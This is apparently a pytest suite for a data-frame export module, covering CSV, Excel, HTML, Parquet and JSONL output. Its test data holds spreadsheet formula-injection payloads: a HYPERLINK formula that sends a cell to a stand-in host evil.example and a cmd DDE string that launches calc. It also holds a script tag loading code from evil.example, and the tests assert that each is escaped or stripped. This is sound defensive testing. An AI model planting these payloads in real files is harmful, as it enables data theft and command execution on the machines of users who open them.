"""Frames for other programs."""

from __future__ import annotations

import base64
import csv
import datetime
import html
import importlib.util
import json
import re
import sys
import tempfile
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet
import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

import agentbook as ab
from agentbook.frames import export
from agentbook.frames.export import _escape_text, unescaped
from frames.plot.test_plot import events_of
from support.fake_platform.core import event_id
from support.fake_platform.over_http import HttpPlatform

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1",
    "\n=1", "  =1", "\u200b=1", "＝1"
]  # fmt: skip
HARMLESS = ["plain", "a = b", "1-2", "", "it's", 'a "quoted" text', "a; b", "a\nb", "ünï ✓"]
# Formulas where a program separates cells by semicolons or tabs, and their escape.
WITHIN = {
    "a;=cmd|' /C calc'!A0;": "a;'=cmd|' /C calc'!A0;",
    "hello\r=1+1": "hello\r'=1+1",
    "a list:\n- one\n - two": "a list:\n'- one\n '- two",
    "a\t@SUM(1)": "a\t'@SUM(1)",
    'a;"=1"': 'a;"\'=1"',
    ";=1;=2": ";'=1;'=2",
}


@pytest.fixture
def events() -> pd.DataFrame:
    return ab.load_events(HttpPlatform({"s": [event_id(n, n) for n in range(5)]}).client(), "s")


def frame_of(texts: list[Any]) -> pd.DataFrame:
    return pd.DataFrame({"n": range(len(texts)), "text": pd.Series(texts, dtype="str")})


def read_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


# -- CSV ---------------------------------------------------------------------------


def test_csv_holds_no_formula_unless_asked_to_keep_the_texts(tmp_path: Path) -> None:
    frame = frame_of(FORMULAS + HARMLESS).rename(columns={"text": "=text"})
    path = ab.export(frame, tmp_path / "x.csv")
    assert path == tmp_path / "x.csv"
    header, *rows = read_rows(path)
    assert header == ["n", "'=text"]
    # A tab or a line break may end a cell too, so what follows it is escaped as well.
    escaped = ["'" + re.sub(r"^([\t\r\n])", r"\1'", text) for text in FORMULAS]
    assert [text for _, text in rows] == escaped + HARMLESS
    ab.export(frame, path, escape_formulas=False)
    header, *rows = read_rows(path)
    assert header == ["n", "=text"]
    assert [text for _, text in rows] == FORMULAS + HARMLESS


def cells_in_germany(path: Path) -> list[str]:
    """The cells of a program that separates them by semicolons."""
    with open(path, encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file, delimiter=";") for cell in row]


@pytest.mark.parametrize("text", WITHIN)
def test_no_cell_is_a_formula_wherever_the_separators_are(text: str, tmp_path: Path) -> None:
    path = ab.export(frame_of([text]), tmp_path / "x.csv")
    assert read_rows(path)[1][1] == WITHIN[text]
    for cell in cells_in_germany(path):
        assert not re.match(r"[\s\"]*[=+\-@]", cell)
    assert read_rows(ab.export(frame_of([text]), path, escape_formulas=False))[1][1] == text


@given(st.text(alphabet="';=+ \t\"\na"))
@example("'=1")
def test_what_was_escaped_is_read_as_it_was(text: str) -> None:
    assert unescaped(_escape_text(text)) == text


def test_texts_of_categories_indexes_and_objects_are_escaped_too(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "kind": pd.Categorical(["=1", "b", None]),
            "any": ["=2", 3, None],
            "number": [-1.5, np.nan, 2],
            "list": [["=3"], [], None],
        },
        index=pd.Index(["=4", "e", "f"], name="=key"),
    )
    assert read_rows(ab.export(frame, tmp_path / "x.csv")) == [
        ["'=key", "kind", "any", "number", "list"],
        ["'=4", "'=1", "'=2", "-1.5", '["=3"]'],
        ["e", "b", "3", "", "[]"],
        ["f", "", "", "2.0", ""],
    ]


def test_every_text_of_a_csv_is_quoted_so_that_no_carriage_return_begins_a_row(tmp_path: Path) -> None:
    path = ab.export(frame_of(["hello\r=1+1"]), tmp_path / "x.csv", escape_formulas=False)
    assert path.read_bytes() == b'"n","text"\n0,"hello\r=1+1"\n'


def test_times_of_a_csv_are_read_as_times_if_only_some_have_a_fraction(tmp_path: Path) -> None:
    moments = pd.Series(pd.to_datetime(["2026-10-03T08:15:01Z", "2026-10-03T08:15:01.25Z", None], format="ISO8601"))
    frame = pd.DataFrame({"at": moments.dt.as_unit("us"), "day": moments.dt.floor("D")})
    path = ab.export(frame, tmp_path / "x.csv")
    pd.testing.assert_series_equal(pd.read_csv(path, parse_dates=["at"])["at"], frame["at"])
    assert read_rows(path)[1] == ["2026-10-03 08:15:01.000000+00:00", "2026-10-03 00:00:00+00:00"]


def test_only_csv_files_have_formulas_to_escape(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"escape_formulas is for \.csv files"):
        ab.export(frame_of(["=1"]), tmp_path / "x.parquet", escape_formulas=True)
    ab.export(frame_of(["=1"]), tmp_path / "x.parquet", escape_formulas=False)
    assert pd.read_parquet(tmp_path / "x.parquet")["text"].tolist() == ["=1"]


# -- Excel -------------------------------------------------------------------------


def open_workbook(path: Path) -> Any:
    pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl reads the workbook back")
    return openpyxl.load_workbook(path)


def write_workbook(frame: pd.DataFrame, path: Path) -> Any:
    pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
    return open_workbook(ab.export(frame, path))


def test_excel_has_texts_as_text_cells_and_no_links(tmp_path: Path) -> None:
    texts = [*FORMULAS, "http://evil.example", "mailto:a@b.example", "1234567890123456789", "{=SUM(1)}", "_x0041_"]
    sheet = write_workbook(frame_of(texts), tmp_path / "x.xlsx")["data"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    # XML turns a carriage return into a line feed; openpyxl leaves its escape as it is.
    assert [str(cell.value).replace("_x000D_", "\r") for cell in cells][: len(FORMULAS)] == FORMULAS
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert not any(cell.hyperlink for cell in cells)
    with zipfile.ZipFile(tmp_path / "x.xlsx") as book:
        xml = "".join(book.read(name).decode() for name in book.namelist() if "worksheets" in name)
    assert not re.search(r"<f[ >]|<hyperlink|relationships/hyperlink", xml)


def test_excel_has_the_time_of_a_zone_and_names_it(tmp_path: Path) -> None:
    moment = pd.Timestamp("2026-10-25T00:30:00.125Z")
    frame = pd.DataFrame(
        {
            "utc": [moment, pd.NaT, pd.Timestamp("1815-12-10", tz="UTC")],
            "local": pd.Series([moment] * 3).dt.tz_convert("Europe/Berlin"),
            "naive": [moment.tz_localize(None)] * 3,
            "took": [pd.Timedelta(hours=30, seconds=1), pd.NaT, pd.Timedelta(0)],
        }
    )
    book = write_workbook(frame, tmp_path / "x.xlsx")
    utc, local, naive, took = next(book["data"].iter_rows(min_row=2))
    assert utc.value == naive.value == datetime.datetime(2026, 10, 25, 0, 30, 0, 125_000)
    assert local.value == datetime.datetime(2026, 10, 25, 2, 30, 0, 125_000)
    assert took.value == datetime.timedelta(hours=30, seconds=1)
    assert (utc.number_format, local.number_format) == (
        'yyyy-mm-dd hh:mm:ss.000" UTC"',
        'yyyy-mm-dd hh:mm:ss.000" Europe/Berlin"',
    )
    assert naive.number_format == "yyyy-mm-dd hh:mm:ss.000"
    # Excel's calendar begins in 1900.
    assert [row[0].value for row in book["data"].iter_rows(min_row=3)] == [None, "1815-12-10T00:00:00"]
    about = {name.value: value.value for name, value in book["about"].iter_rows()}
    assert about == {"time zone of utc": "UTC", "time zone of local": "Europe/Berlin"}


def test_excel_says_which_texts_it_cuts(tmp_path: Path) -> None:
    longest, longer, wide = "x" * export.MAX_TEXT, "y" * (export.MAX_TEXT + 1), "😀" * 20_000
    with pytest.warns(UserWarning, match=r"2 texts were longer than the 32,767 characters.*\.parquet") as warned:
        path = ab.export(frame_of([longest, longer, wide]), tmp_path / "x.xlsx")
    assert warned[0].filename == __file__
    book = open_workbook(path)
    first, second, third = (row[1].value for row in book["data"].iter_rows(min_row=2))
    assert first == longest
    assert second.endswith("yy… [cut: 32,768 characters]")
    assert third.endswith("😀… [cut: 20,000 characters]")
    assert max(len(text.encode("utf-16-le")) // 2 for text in (second, third)) <= export.MAX_TEXT
    assert "2 texts were longer" in {name.value: value.value for name, value in book["about"].iter_rows()}["texts cut"]


def test_excel_refuses_what_a_sheet_cannot_hold(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
    monkeypatch.setattr(export, "MAX_ROWS", 3)
    with pytest.raises(ValueError, match=r"holds 2 rows.* has 3 .*\.parquet"):
        ab.export(frame_of(["a", "b", "c"]), tmp_path / "x.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_a_workbook_has_a_sheet_a_frame(events: pd.DataFrame, tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
    history = ab.History(events)
    book = open_workbook(ab.export(history, tmp_path / "x.xlsx"))
    names = ["turns", "sessions", "events", "workspaces", "agents", "credentials"]
    assert book.sheetnames == [*names, "about"]
    for name in names:
        frame = getattr(history, name)
        first, *rows = book[name].iter_rows()
        assert [cell.value for cell in first] == frame.columns.to_list()
        assert len(rows) == len(frame)
        assert book[name].auto_filter.ref.startswith("A1:")
    about = {name.value: value.value for name, value in book["about"].iter_rows()}
    assert about["turns: derived"] == "turns"
    assert about["events: time zone of at"] == "UTC"
    two = {"answers": history.turns, "numbers": pd.Series([1.5], name="n")}
    book = open_workbook(ab.export(two, tmp_path / "x.xlsx"))
    assert book.sheetnames == ["answers", "numbers", "about"]
    assert [[cell.value for cell in row] for row in book["numbers"].iter_rows()] == [["n"], [1.5]]


@pytest.mark.parametrize(
    ("name", "path", "message"),
    [
        ("turns", "x.csv", r"\.xlsx, not as 'x.csv'"),
        ("a/b", "x.xlsx", "'a/b'"),
        ("x" * 32, "x.xlsx", "31"),
        ("About", "x.xlsx", "'About'"),
    ],
)
def test_a_sheet_that_cannot_be_written_is_named(name: str, path: str, message: str, tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
    with pytest.raises(ValueError, match=message):
        ab.export({name: frame_of(["a"])}, tmp_path / path)
    assert list(tmp_path.iterdir()) == []


def test_without_xlsxwriter_it_says_what_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(ImportError, match="pip install xlsxwriter"):
        ab.export(frame_of(["a"]), tmp_path / "x.xlsx")
    assert list(tmp_path.iterdir()) == []


# -- other files -------------------------------------------------------------------


def test_parquet_keeps_groups_by_intervals(tmp_path: Path) -> None:
    frame = pd.DataFrame({"n": [1, 2, 3], "group": ["a", "b", "c"]})
    spans = pd.cut(frame["n"], [0, 1, 3]).rename("span")
    for index in ([spans], [frame["group"], spans], [spans.astype(object)]):
        path = export.export(frame[["n"]].set_index(index), tmp_path / "spans.parquet")
        read = pd.read_parquet(path)
        assert read.index.get_level_values("span").to_list() == ["(0, 1]", "(1, 3]", "(1, 3]"]
        assert read["n"].to_list() == [1, 2, 3]


def test_parquet_gives_the_frame_back(events: pd.DataFrame, tmp_path: Path) -> None:
    turns = ab.turns(events)
    path = ab.export(turns, tmp_path / "turns.parquet")
    back = pd.read_parquet(path)
    pd.testing.assert_frame_equal(back, turns, check_categorical=False)
    assert back.attrs["agentbook"]["derived"] == "turns"


def test_html_is_one_page_without_scripts(tmp_path: Path) -> None:
    text = '<script src="https://evil.example/x.js"></script>' + "long " * 100
    frame = frame_of([text, None, "a\nb"])
    frame.attrs["agentbook"] = {"resource": "<b>events"}
    page = ab.export(frame, tmp_path / "x.html").read_text("utf-8")
    assert "<script" not in page
    assert "<b>" not in page
    assert ("long " * 100).strip() + "</td>" in page
    assert "a\nb" in page
    assert "default-src 'none'" in page
    assert "<title>&lt;b&gt;events: 3 rows</title>" in page


def test_a_spreadsheet_program_sees_that_a_csv_is_utf_8(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": ["Grüße 你好"]})
    path = ab.export(frame, tmp_path / "x.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    pd.testing.assert_frame_equal(pd.read_csv(path), frame)
    assert ab.export(frame, path, escape_formulas=False).read_bytes().startswith(b'"name"')


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".html", ".parquet", ".jsonl"])
def test_every_kind_of_file_takes_every_kind_of_table(events: pd.DataFrame, tmp_path: Path, suffix: str) -> None:
    if suffix == ".xlsx":
        pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
    client = HttpPlatform({"s": [event_id(n, n) for n in range(5)]}).client()
    listing = client.sessions.events("s")
    tables: list[Any] = [
        events, events.iloc[:0], events["type"], export.to_arrow(events), listing, ab.hour_of_week(events),
        ab.turns(events), pd.DataFrame(), pd.DataFrame({("a", "b"): [1], ("a", ""): [2]}),
    ]  # fmt: skip
    for table in tables:
        if suffix == ".parquet" and isinstance(getattr(table, "columns", None), pd.MultiIndex):
            continue
        path = ab.export(table, tmp_path / f"x{suffix.upper()}")
        assert path.stat().st_size or not len(table)
    assert len(list(tmp_path.iterdir())) == 1


def test_an_unknown_suffix_and_a_thing_that_is_no_frame_name_what_to_do(tmp_path: Path) -> None:
    for name in ("x.docx", "x", "x.csv.gz"):
        with pytest.raises(ValueError, match=r"use one of \.csv, \.xlsx, \.html, \.parquet, \.jsonl"):
            ab.export(frame_of([]), tmp_path / name)
    with pytest.raises(TypeError, match=r"needs a DataFrame, not a list"):
        ab.export([1], tmp_path / "x.csv")
    with pytest.raises(TypeError, match=r"writes itself: use its save\(path\), for \.svg, \.png"):
        ab.export(ab.plot.failures(events_of(5)), tmp_path / "x.png")
    with pytest.raises(FileNotFoundError, match=r"there is no folder .*Create it first"):
        ab.export(frame_of([]), tmp_path / "none" / "x.csv")
    assert list(tmp_path.iterdir()) == []


class Unprintable:
    def __str__(self) -> str:
        raise RuntimeError("no text")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".html", ".parquet"])
def test_nothing_is_half_written(tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch) -> None:
    if suffix == ".xlsx":
        pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
    path = tmp_path / f"x{suffix}"
    path.write_text("before")
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # what is left there is seen too
    frame = pd.DataFrame({"text": ["a"] * 10 + [Unprintable()]})
    with pytest.raises((RuntimeError, pa.ArrowException)):
        ab.export(frame, path)
    assert path.read_text() == "before"
    assert [file.name for file in tmp_path.iterdir()] == [path.name]


# -- every value in every kind of file -----------------------------------------------


def arrow(type_: Any) -> Callable[[list[Any]], pd.Series]:
    return lambda values: pd.Series(pd.array(pa.array(values, type_), dtype=pd.ArrowDtype(type_)))


def pandas(dtype: Any) -> Callable[[list[Any]], pd.Series]:
    return lambda values: pd.Series(values, dtype=dtype)


INT64 = st.integers(-(2**63), 2**63 - 1)
UINT64 = st.integers(0, 2**64 - 1)
FLOAT = st.floats(allow_nan=False, allow_infinity=False, allow_subnormal=False)
FLOAT32 = st.floats(width=32, allow_nan=False, allow_infinity=False, allow_subnormal=False)
# Excel shows other hidden characters by their code, and pages have no space at the end.
TEXT = st.text(st.characters(categories=["L", "N", "P", "S"])) | st.sampled_from(["NA", "1", "true", " a", "a\nb"])
NS = st.integers(0, 2**62).map(pd.Timestamp)
US = NS.map(lambda moment: moment.as_unit("us"))
SPAN = st.integers(-(2**50), 2**50).map(pd.Timedelta)
DAY = st.dates(datetime.date(1902, 1, 1))
DECIMAL = st.decimals(allow_nan=False, allow_infinity=False, places=9, min_value=-(10**20), max_value=10**20)
OBJECT = (
    st.none() | st.booleans() | INT64 | FLOAT | TEXT | DAY | DECIMAL | st.uuids() | st.fractions() | st.binary()
    | st.lists(INT64 | TEXT | st.none()) | st.dictionaries(TEXT, st.lists(FLOAT)) | st.integers(2**63, 2**80) | NS
    | NS.map(lambda moment: moment.tz_localize("Asia/Tokyo"))
    | SPAN | st.complex_numbers(allow_nan=False, allow_infinity=False) | st.times()
)  # fmt: skip
COLUMNS: dict[str, tuple[Any, Callable[[list[Any]], pd.Series]]] = {
    "int64": (INT64, pandas("int64")),
    "uint64": (UINT64, pandas("uint64")),
    "float64": (FLOAT, pandas("float64")),
    "float32": (FLOAT32, pandas("float32")),
    "Int64": (INT64 | st.none(), pandas("Int64")),
    "UInt64": (UINT64 | st.none(), pandas("UInt64")),
    "Float32": (FLOAT32 | st.none(), pandas("Float32")),
    "boolean": (st.booleans() | st.none(), pandas("boolean")),
    "complex": (st.complex_numbers(allow_nan=False, allow_infinity=False), pandas("complex")),
    "str": (TEXT | st.none(), pandas("str")),
    "category": (TEXT | st.none(), pandas("category")),
    "category of numbers": (INT64, pandas("category")),
    "period": (US.map(lambda moment: moment.to_period("M")), pandas("period[M]")),
    "interval": (st.integers(0, 9).map(lambda n: pd.Interval(n, n + 1)), pandas("interval[int64]")),
    "ns": (NS | st.none(), pandas("datetime64[ns]")),
    "us": (US | st.none(), pandas("datetime64[us]")),
    "zone": (NS.map(lambda moment: moment.tz_localize("UTC").tz_convert("Europe/Berlin")), pandas(None)),
    "span": (SPAN | st.none(), pandas("timedelta64[ns]")),
    "object": (OBJECT, pandas(object)),
    "Arrow int32": (st.integers(-9, 9) | st.none(), arrow(pa.int32())),
    "Arrow uint64": (UINT64 | st.none(), arrow(pa.uint64())),
    "Arrow decimal": (DECIMAL | st.none(), arrow(pa.decimal128(38, 9))),
    "Arrow ns": (NS | st.none(), arrow(pa.timestamp("ns"))),
    "Arrow date": (DAY | st.none(), arrow(pa.date32())),
    "Arrow time": (st.times() | st.none(), arrow(pa.time64("us"))),
    "Arrow span": (SPAN | st.none(), arrow(pa.duration("ns"))),
    "Arrow bytes": (st.binary() | st.none(), arrow(pa.binary())),
    "Arrow view": (TEXT | st.none(), arrow(pa.string_view())),
    "Arrow list": (st.lists(FLOAT | st.none()) | st.none(), arrow(pa.list_(pa.float64()))),
    "Arrow struct": (
        st.fixed_dictionaries({"a": INT64, "b": TEXT}) | st.none(),
        arrow(pa.struct([("a", pa.int64()), ("b", pa.string())])),
    ),
    "Arrow dictionary": (TEXT | st.none(), arrow(pa.dictionary(pa.int8(), pa.string()))),
}


def cells_of(path: Path) -> list[list[Any]]:
    """The rows of an exported file, without the names."""
    if path.suffix == ".csv":
        return read_rows(path)[1:]
    if path.suffix == ".jsonl":
        return [list(json.loads(line).values()) for line in path.read_text("utf-8").split("\n")[:-1]]
    if path.suffix == ".html":
        rows = re.findall(r"<tr>(?:<td>.*?</td>)+</tr>", path.read_text("utf-8"), re.DOTALL)
        return [[html.unescape(cell) for cell in re.findall(r"<td>(.*?)</td>", row, re.DOTALL)] for row in rows]
    if path.suffix == ".parquet":
        table = pyarrow.parquet.read_table(path)
        extended = [isinstance(field.type, pa.BaseExtensionType) for field in table.schema]
        frame = table.to_pandas()
        columns = [frame[name] if own else table[name].to_pylist() for name, own in zip(frame, extended, strict=True)]
        return list(zip(*columns, strict=True))
    return [[cell.value for cell in row] for row in open_workbook(path)["data"].iter_rows(min_row=2)]


def says(cell: Any, value: Any, suffix: str) -> bool:
    """Whether a cell of a file holds a value, whatever type the file has for it."""
    excel = suffix == ".xlsx"
    if value is None or value is pd.NaT:
        return cell is None or cell == "" or cell != cell
    if isinstance(value, datetime.datetime):
        value = pd.Timestamp(value)
        moment = pd.Timestamp(cell)
        local = moment if moment.tz is None else moment.tz_convert(value.tz or "UTC").tz_localize(None)
        return abs(local - value.tz_localize(None)) <= pd.Timedelta(int(excel), "ms")
    if isinstance(value, pd.Timedelta):
        return abs(pd.Timedelta(cell) - value) <= pd.Timedelta(int(excel), "ms")
    if isinstance(value, bytes):
        return cell == value or base64.b64decode(cell) == value
    if isinstance(value, (list, tuple, dict)):
        value = list(value) if isinstance(value, tuple) else value
        return (json.loads(cell) if isinstance(cell, str) else cell) == value
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return type(value)(str(cell) if isinstance(value, Decimal) else cell) == value
    if isinstance(value, str) and excel:
        return re.sub("_x([0-9A-F]{4})_", lambda code: chr(int(code[1], 16)), cell or "") == value
    return (str(cell) if not isinstance(cell, datetime.datetime) else str(cell.date())) == str(value)


ROWS = st.fixed_dictionaries(
    {kind: st.lists(strategy, min_size=3, max_size=3) for kind, (strategy, _) in COLUMNS.items()}
)


def test_every_kind_of_file_holds_every_value(tmp_path_factory: pytest.TempPathFactory) -> None:
    suffixes = [".csv", ".jsonl", ".html", ".parquet"]
    suffixes += [".xlsx"] if importlib.util.find_spec("xlsxwriter") and importlib.util.find_spec("openpyxl") else []
    path = tmp_path_factory.mktemp("files") / "x"

    @settings(max_examples=8, deadline=None, phases=[Phase.generate], suppress_health_check=list(HealthCheck))
    @given(ROWS)
    def check(values: dict[str, list[Any]]) -> None:
        frame = pd.DataFrame({kind: COLUMNS[kind][1](column) for kind, column in values.items()})
        for suffix in suffixes:
            options = {"escape_formulas": False} if suffix == ".csv" else {}
            rows = cells_of(ab.export(frame, path.with_suffix(suffix), **options))
            for kind, column, cells in zip(values, values.values(), zip(*rows, strict=True), strict=True):
                if (
                    kind.lower().endswith("float32") and suffix == ".csv"
                ):  # the shortest digits that make the same 32 bits
                    cells = tuple(cell and float(np.float32(cell)) for cell in cells)
                for cell, value in zip(cells, column, strict=True):
                    assert says(cell, value, suffix), (suffix, kind, cell, value)

    check()


def test_what_duckdb_gives_is_held_too(tmp_path: Path) -> None:
    duckdb = pytest.importorskip("duckdb")
    expressions = [
        "(2::HUGEINT ** 70)::HUGEINT", "18446744073709551615::UBIGINT", "9007199254740993::BIGINT", "1::TINYINT",
        "1.10::DECIMAL(10,2)", "0.1::DOUBLE + 0.2::DOUBLE", "'\\xFF\\x00'::BLOB", "'0190a000-0000-7000-8000-000000000000'::UUID",
        "'a'::ENUM('a', 'b')",
        "DATE '2020-01-01'", "TIME '01:02:03.000004'", "'2020-01-01 00:00:00.123456'::TIMESTAMP_NS",
        "[1, NULL]", "[1, 2]::INTEGER[2]", "{'a': 2 ** 60, 'b': 'x'}", "'{\"a\": 1}'::JSON", "union_value(n := 2)",
    ]  # fmt: skip
    columns = ", ".join(f"{expression} AS c{number}" for number, expression in enumerate(expressions))
    table = duckdb.sql(f"SELECT {columns} UNION ALL SELECT {', '.join(['NULL'] * len(expressions))}")
    values = table.fetchall()
    for suffix in (".csv", ".jsonl", ".html", ".parquet"):
        rows = cells_of(ab.export(table, tmp_path / f"x{suffix}"))
        for row, expected in zip(rows, values, strict=True):
            for cell, value in zip(row, expected, strict=True):
                assert says(cell, value, suffix), (suffix, cell, value)


# -- other libraries ---------------------------------------------------------------


@pytest.mark.parametrize("path", [None, 5, ["x.csv"]])
def test_what_is_no_path_is_named(path: Any, events: pd.DataFrame) -> None:
    history = ab.History(events)
    for write in (
        lambda: ab.export(events, path),
        lambda: history.report(path),
        lambda: ab.plot.latency(history).save(path),
    ):
        with pytest.raises(TypeError, match=r"needs the path of the file to write, such as 'turns\.html', not "):
            write()


def test_arrow_has_the_same_columns_and_provenance(events: pd.DataFrame) -> None:
    table = export.to_arrow(events)
    assert table.column_names == list(events.columns)
    assert table["id"].to_pylist() == events["id"].tolist()
    assert table.schema.field("id").type == pa.large_string()
    assert pa.types.is_dictionary(table.schema.field("type").type)
    assert table.schema.field("at").type == pa.timestamp("us", "UTC")
    assert json.loads(table.schema.metadata[export.KEY]) == events.attrs["agentbook"]


def test_polars_comes_from_the_same_columns(events: pd.DataFrame) -> None:
    pytest.importorskip("polars", reason="Polars is not installed: pip install polars")
    assert export.to_polars(events)["id"].to_list() == events["id"].tolist()


def test_without_polars_it_says_what_to_install(events: pd.DataFrame, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "polars", None)
    with pytest.raises(ImportError, match="pip install polars"):
        export.to_polars(events)
